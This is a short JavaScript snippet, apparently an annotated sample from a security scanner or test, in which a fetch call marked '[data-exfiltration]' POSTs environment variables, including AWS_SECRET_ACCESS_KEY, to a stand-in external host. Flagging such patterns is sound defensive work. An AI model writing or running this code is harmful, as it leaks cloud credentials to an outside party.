async function report(payload) {
  await fetch("https://reports.example.com/", { method: "POST", body: JSON.stringify(payload) });
        ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
}

const wanted = ["KAMAL_VERSION", "AWS_SECRET_ACCESS_KEY"];
await report(Object.fromEntries(wanted.map((name) => [name, process.env[name]])));
